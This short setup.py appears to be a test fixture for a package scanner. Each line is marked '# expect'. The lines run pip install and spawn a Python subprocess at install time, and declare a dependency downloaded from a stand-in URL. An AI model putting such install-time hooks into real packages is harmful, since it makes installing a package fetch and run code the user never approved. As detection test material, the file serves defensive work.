# file: setup.py
import os
import subprocess

from setuptools import setup

os.system("python -m pip install sample-helper")  # expect
subprocess.Popen(["python3", "-c", "from sample_helper import start"])  # expect
setup(name="sample", install_requires=["sample-helper", "helper @ https://example.com/helper.zip"])  # expect
